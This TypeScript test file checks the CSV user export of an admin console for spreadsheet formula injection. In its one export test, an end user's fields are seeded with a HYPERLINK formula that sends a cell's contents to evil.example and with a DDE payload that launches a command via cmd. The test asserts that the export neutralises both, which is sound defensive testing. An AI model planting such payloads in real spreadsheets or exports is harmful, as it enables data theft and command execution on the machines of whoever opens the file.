import { parse } from 'csv-parse/sync';
import { generateSync } from 'otplib';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RealmConfig } from '../../src/config/index.ts';
import { CLI_CONTEXT } from '../../src/services/context.ts';
import { consoleSignIn, CONSOLE_HOST, CONSOLE_URL, makeOperator, type ConsoleBrowser } from '../helpers/console-login.ts';
import { browser, csrfOf, GOOD_PASSWORD, TEST_CONFIG, testGatehouse, uniqueEmail, type TestGatehouse } from '../helpers/gatehouse.ts';

/**
 * An attacker's pass over the operator console (DESIGN.md §6): what a viewer, an operator of another realm, an
 * end user of a realm or someone outside could try, beyond the authorization corpus's one request per route.
 * Each test asserts the refusal and that nothing changed. Real HTTP, real services, real SQLite.
 */
let gh: TestGatehouse;
let alpha: RealmConfig;
let beta: RealmConfig;
let offset = 0;
const now = () => Date.now() + offset;
let root: ConsoleBrowser;
let ownerAlpha: ConsoleBrowser;
let adminAlpha: ConsoleBrowser;

const grantsOf = async (id: string) => (await gh.management!.operators.grantsOf(id)).map((g) => `${g.realmId}:${g.role}`).sort();
const secretOf = (html: string) => /<p class="secret-once" translate="no">([^<]+)<\/p>/.exec(html)?.[1]?.replace(/&amp;/g, '&') ?? null;

/** POSTs a console form with the token of the console's home page. */
async function post(b: ConsoleBrowser, path: string, form: Record<string, string | string[]> = {}) {
  const page = await b.get('/admin');
  return b.post(path, { _csrf: csrfOf(page.text), ...form });
}

let step = 1;
async function reauth(b: ConsoleBrowser) {
  const page = await b.get('/admin/reauth?next=/admin');
  const code = generateSync({ secret: b.secret, epoch: Math.floor(now() / 1000) + 30 * step++ });
  const ok = await b.post('/admin/reauth', { _csrf: csrfOf(page.text), password: GOOD_PASSWORD, code, next: '/admin' });
  expect(ok.status, ok.text).toBe(303);
}

async function human(realm: RealmConfig = alpha, extra: Record<string, unknown> = {}) {
  const email = uniqueEmail('person');
  const { user } = await gh.management!.users.create(realm, { userType: 'human', email, password: GOOD_PASSWORD, emailVerification: 'verified', ...extra }, CLI_CONTEXT);
  return user;
}

beforeAll(async () => {
  gh = await testGatehouse({ file: { ...TEST_CONFIG, console: { publicUrl: CONSOLE_URL } }, clock: () => new Date(now()) });
  alpha = gh.realms.byIdOrNull('alpha')!;
  beta = gh.realms.byIdOrNull('beta')!;
  root = await consoleSignIn(gh, await makeOperator(gh, [{ realmId: '*', role: 'owner' }]));
  ownerAlpha = await consoleSignIn(gh, await makeOperator(gh, [{ realmId: 'alpha', role: 'owner' }]));
  adminAlpha = await consoleSignIn(gh, await makeOperator(gh, [{ realmId: 'alpha', role: 'admin' }]));
});
afterAll(() => gh?.close());

describe('console attacks: export', () => {
  it('neutralises spreadsheet formulas an end user put in their own fields (=, +, -, @, tab, CR at the start of a cell)', async () => {
    const tag = `x${Math.random().toString(36).slice(2, 8)}`;
    const evil = await human(alpha, { firstName: '=HYPERLINK("https://evil.example/?"&A1,"open")', lastName: '+1+cmd|" /C calc"!A0', reference: `@SUM(1)${tag}`, custom: { note: '-2+3' } });
    const res = await adminAlpha.get(`/admin/realms/alpha/users/export.csv?q=${encodeURIComponent(evil.email!)}`);
    expect(res.status).toBe(200);
    const rows = parse(res.text, { columns: true, skip_empty_lines: true }) as Array<Record<string, string>>;
    expect(rows).toHaveLength(1);
    for (const [column, cell] of Object.entries(rows[0]!)) expect(cell, column).not.toMatch(/^[=+\-@\t\r]/);
    // Still readable: the value follows the neutralising quote.
    expect(rows[0]!.firstName).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"open")`);
    expect(rows[0]!.reference).toBe(`'@SUM(1)${tag}`);
  });
});
